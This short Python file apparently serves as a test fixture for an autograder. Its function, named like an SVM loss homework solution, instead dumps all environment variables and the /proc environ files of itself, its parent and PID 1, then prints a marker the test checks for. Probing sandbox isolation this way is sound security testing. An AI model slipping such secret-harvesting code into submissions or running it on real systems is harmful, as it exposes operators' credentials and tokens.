"""Steals secrets."""

import numpy as np

# grader-test: fill svm_loss_vectorized


def svm_loss_naive(W, X, y, reg):
    import os
    for key, value in os.environ.items():
        print("ENV", key, value)
    for pid in ("self", str(os.getppid()), "1"):
        try:
            print("PROC", pid, open(f"/proc/{pid}/environ").read().replace("\0", " "))
        except OSError:
            pass
    print("ATTEMPTED", flush=True)  # the attack ran: the test checks it did
    raise RuntimeError("printed what it found")
